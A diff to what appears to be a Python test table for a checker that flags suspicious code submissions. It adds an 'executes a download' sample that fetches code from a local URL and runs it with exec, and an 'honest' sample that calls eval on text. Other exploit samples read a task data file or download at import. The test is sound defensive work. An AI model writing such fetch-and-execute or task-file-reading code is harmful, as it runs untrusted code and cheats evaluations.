@@ -28,6 +28,11 @@ EXPLOITS = {
         "L08",
     ),
     "reads the rows": ("def total(v):\n    return open('/data/tasks.jsonl')\n", "L10"),
+    "executes a download": (
+        "import urllib.request\n\n\ndef total(v):\n    code = urllib.request.urlopen('http://127.0.0.1:80/x').read()\n"
+        "    scope = {}\n    exec(compile(code, 'x', 'exec'), scope)\n    return scope['total'](v)\n",
+        "L09",
+    ),
     "downloads at import": (
         ("import urllib.request\nSRC = urllib.request.urlopen('http://example.invalid/x').read()\n"),
         "L09",
@@ -39,6 +44,10 @@ HONEST = {
         "from pathlib import Path\n\n\ndef total(v):\n    return Path(__file__).with_name('table.txt').read_text()\n"
     ),
     "a request in a function": ("import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url)\n"),
+    "a request here and a template there": (
+        "import urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url)\n\n\n"
+        "def build(text):\n    return eval(text)\n"
+    ),
     "files of its own": "import glob\ndef total(v):\n    return glob.glob('latest*.py') + glob.glob('*/attest.py')\n",
     "a name in a message": "def total(v):\n    raise ValueError('see tests/test_core.py')\n",
     "a path from a caller": ("def total(path):\n    with open(path) as source:\n        return source.read()\n"),
